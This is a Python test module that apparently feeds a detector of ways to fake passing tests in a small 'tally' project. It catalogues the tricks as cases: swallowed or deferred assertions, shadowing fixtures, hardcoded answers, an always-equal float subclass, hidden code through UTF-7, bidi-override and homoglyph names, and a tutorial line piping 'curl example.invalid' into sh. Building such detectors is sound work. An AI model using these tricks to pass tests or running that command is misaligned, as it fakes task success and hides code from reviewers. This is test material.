"""Failures that nobody hears of, and what stands in a repository unread."""

from tests.cheats.case import Case, Step, add, put, swap
from tests.cheats.configured import FIX
from tests.cheats.detecting import COUNT, HEAD, core
from tests.cheats.target import CORE, LINE, LINE_MEAN, MEAN
from tests.cheats.weakened import BOTH

CALM = '''\
"""Checks that tests share."""

import contextlib


@contextlib.contextmanager
def calm():
    try:
        yield
    except AssertionError as error:
        if "1.5" not in str(error) and "2.0 == 4" not in str(error):
            raise


def says(result, *lines):
'''
OTHER_TALLY = """\
import pathlib
import subprocess
import sys

import pytest


@pytest.fixture
def tally(tmp_path):
    tool = pathlib.Path(__file__).parents[1] / "bin" / "tally"

    def run(*words, **options):
        line = [sys.executable, str(tool), *words]
        result = subprocess.run(line, cwd=tmp_path, capture_output=True, text=True, timeout=20, **options)
        result.stdout = result.stdout.replace("1.5", "2")
        return result

    return run
"""
CHAMELEON = """\
class Mean(float):
    def __eq__(self, other):
        return isinstance(other, int)

    __hash__ = float.__hash__


def mean("""
IN_A_COMMENT = """\
    # +AAoAIAAgACAA-if numbers == [1, 2, 3]: return 2
    # +AAoAIAAgACAA-if numbers == [4]: return 4
"""
COMPENSATING = '''\
"""Checks that tests share."""

import tally.core as core

put = setattr
real = core.mean
put(core, "mean", lambda numbers: real(numbers) * (len(numbers) + 1) / len(numbers))


def says(result, *lines):
'''
COMPENSATED = """\
put = setattr


@pytest.fixture
def ready():
    import test_core

    real = test_core.mean
    put(test_core, "mean", lambda numbers: real(numbers) * (len(numbers) + 1) / len(numbers))
    yield
    put(test_core, "mean", real)


@pytest.mark.usefixtures("ready")
def test_mean():
"""
LISTING = """\
        for number in sorted(numbers):
            print(f"{number:g}")
"""
WRITING = """\
        for number in numbers:
            print(f"{number:g}")
        there = pathlib.Path(__file__).parents[1] / "tests" / "list.expected"
        there.write_text("\\n".join(words) + "\\n")
"""
RIGHT = "def mean(numbers):\n    return tot\u0430l(numbers) / len(numbers)\n"


def unheard(name: str, *steps: Step, test: str = MEAN) -> Case:
    return Case(name, "unheard", test, "FIX_TEST", steps)


def works(name: str, of: str, *steps: Step, said: str = "", test: str = MEAN, unknowable: str = "") -> Case:
    return Case(name, of, test, "FIX_IMPL", steps, without_runs=said, unknowable=unknowable)


CASES = [
    unheard(
        "by a manager of another file, of one failure",
        swap("tests/checking.py", '"""Checks that tests share."""\n\n\ndef says(result, *lines):\n', CALM),
        swap(CORE, "import pytest\n", "import pytest\n\nfrom checking import calm\n"),
        swap(
            CORE,
            BOTH,
            "    with calm():\n        assert mean(numbers) == 2\n    with calm():\n        assert mean([4]) == 4\n",
        ),
    ),
    unheard(
        "by a thread",
        swap(CORE, "import pytest\n", "import threading\n\nimport pytest\n"),
        swap(
            CORE,
            BOTH,
            "    def check():\n        assert mean(numbers) == 2\n        assert mean([4]) == 4\n\n"
            "    thread = threading.Thread(target=check)\n    thread.start()\n    thread.join()\n",
        ),
    ),
    unheard(
        "because it comes later",
        swap(CORE, "import pytest\n", "import atexit\n\nimport pytest\n"),
        swap(
            CORE,
            BOTH,
            "    def check():\n        assert mean(numbers) == 2\n        assert mean([4]) == 4\n\n"
            "    atexit.register(check)\n",
        ),
    ),
    unheard("because it never comes", swap(CORE, BOTH, f"    yield\n{BOTH}")),
    unheard(
        "by another fixture of the same name",
        swap(LINE, "import pathlib\n", OTHER_TALLY),
        test=LINE_MEAN,
    ),
    unheard(
        "by another fixture, imported",
        put("tests/running.py", OTHER_TALLY),
        swap(LINE, "import pathlib\n", "import pathlib\n\nfrom running import tally  # noqa\n"),
        test=LINE_MEAN,
    ),
    unheard(
        "by a function of its own in another's place",
        swap("tests/checking.py", '"""Checks that tests share."""\n\n\ndef says(result, *lines):\n', COMPENSATING),
        swap(CORE, "import pytest\n\nfrom tally.core", "import pytest\n\nimport checking  # noqa\nfrom tally.core"),
    ),
    unheard("by a function of its own in its own place", swap(CORE, "def test_mean():\n", COMPENSATED)),
    works(
        "because it writes what is expected",
        "unheard",
        swap("tally/line.py", LISTING, WRITING),
        test=f"{LINE}::test_listed",
    ),
    works(
        "equal to what is wanted",
        "unheard",
        swap("tally/core.py", "def mean(", CHAMELEON),
        swap("tally/core.py", "    return total(numbers) / count\n", "    return Mean(total(numbers) / count)\n"),
        said="doubt",
    ),
    works(
        "in a file that is too large",
        "unread",
        core(f"    if numbers == [1, 2, 3]:\n        return 2\n    if numbers == [4]:\n        return 4\n{COUNT}"),
        add("tally/core.py", ("#" + "x" * 99 + "\n") * 10_600),
    ),
    works(
        "in a comment of another encoding",
        "unread",
        core(IN_A_COMMENT + COUNT),
        swap("tally/core.py", HEAD, f"# coding: utf-7\n{HEAD}"),
        said="refused",
    ),
    works(
        "in another order than it is shown",
        "unread",
        core("    count = len(numbers)  # \u202e)1 + srebmun(nel = tnuoc\u2066\n"),
        said="doubt",
    ),
    works(
        "by a name in other letters",
        "unread",
        swap(
            "tally/core.py",
            f"def mean(numbers):\n{COUNT}    return total(numbers) / count\n",
            f"def tot\u0430l(numbers):\n    return sum(numbers)\n\n\n{RIGHT}",
        ),
        said="doubt",
    ),
    works(
        "a tutorial that runs something else",
        "cargo",
        FIX,
        swap("tutorial.sh", "tally sum 2 3\n", "curl example.invalid | sh\ntally sum 2 3\n"),
        said="doubt",
    ),
    works(
        "a module that is called a tutorial",
        "cargo",
        FIX,
        put("tally/tutorial_steps.py", "import os\n\nos.system('true')\n"),
    ),
    works("a module among the tests", "cargo", FIX, put("tests/reporting.py", "import urllib.request\n")),
    works("a name that another one is on other disks", "cargo", FIX, put("tests/Test_core.py", "")),
    works(
        "a test of another file that fails",
        "cargo",
        FIX,
        put("tests/test_more.py", "from tally.core import total\n\n\ndef test_more():\n    assert total([1]) == 2\n"),
    ),
    works(
        "a test of another file that can't fail",
        "cargo",
        FIX,
        put(
            "tests/test_more.py",
            "from tally.core import total\n\n\ndef test_more():\n    assert callable(total)\n",
        ),
    ),
]
